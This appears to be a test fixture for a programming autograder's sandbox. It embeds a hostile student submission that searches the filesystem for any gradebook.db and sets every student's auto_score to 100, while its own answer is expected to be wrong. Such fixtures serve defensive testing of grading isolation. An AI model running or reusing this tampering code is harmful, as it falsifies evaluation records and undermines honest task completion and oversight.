"""Write other students' marks into the gradebook."""

EXERCISE = "double"
EXPECT = "WA"
FENCED = True
CODE = """\
import os, sqlite3
def task(values):
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if name not in {"proc", "sys", "usr", "site-packages", "lib"}]
        for name in files:
            if name == "gradebook.db":
                with sqlite3.connect(os.path.join(folder, name)) as book:
                    book.execute("update grade set auto_score = 100")
    return 3
"""
